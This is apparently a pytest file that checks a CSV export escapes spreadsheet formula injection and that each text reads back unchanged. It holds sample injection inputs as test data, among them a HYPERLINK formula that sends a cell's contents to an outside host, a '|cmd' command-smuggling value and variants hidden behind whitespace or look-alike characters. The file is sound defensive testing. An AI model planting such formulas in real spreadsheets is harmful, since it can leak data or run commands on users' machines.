"""No cell of a CSV file is a formula to a spreadsheet, and each text reads back as it was."""

from __future__ import annotations

import csv
from pathlib import Path

from editloupe.figures.human_labels import read_labels
from editloupe.figures.render import records_csv

FORMULA = '=HYPERLINK("http://h/?"&A1,"see")'
TEXTS = (
    FORMULA, "+1\t+1", "-2+3|cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", '"=1+1"', "'=1", "''-x", "'\tx", "＝1",
    "\u00a0@x", "\ufeff=1", "- remove the dog", "-", "-3.5.1", "-inf", "-1e5x",
)  # fmt: skip
PLAIN = (
    "", "Make it red.", "a=1", "it's", "'quoted'", "3-2", "-3.5", "+2", "-1e5", " -7 ", "„-“", "'-3.5", "'+2", "'-.5e3",
)  # fmt: skip


def is_formula(cell: str) -> bool:
    """By a reading of its own: the first thing that is no blank, quote or mark is a sign; numbers are none."""
    try:
        float(cell)
    except ValueError:
        pass
    else:
        return "inf" in cell
    if cell[:1] == "'":
        return False
    bare = cell.lstrip(' \t\r\n\u00a0\ufeff"`')
    return cell[:1] in ("\t", "\r", "\n") or bare[:1] in tuple("=+-@＝")


def test_each_text_is_harmless_and_reads_back_as_it_was(tmp_path: Path):
    file = tmp_path / "table.csv"
    file.write_text(records_csv([{"item": text, FORMULA: 1, "score": -3.5} for text in (*TEXTS, *PLAIN)]), newline="")
    with file.open(newline="") as read:
        head, *rows = csv.reader(read)
    assert [cell for row in (head, *rows) for cell in row if is_formula(cell)] == []
    kept = [row[0] for row in rows][len(TEXTS) :]
    assert kept[:-3] == list(PLAIN[:-3]), "what is no formula stays as it is"
    assert {row[2] for row in rows} == {"-3.5"}
    table = read_labels(file)
    assert table.columns == ("item", FORMULA, "score")
    assert [line.values["item"] for line in table.lines] == [*TEXTS, *PLAIN]
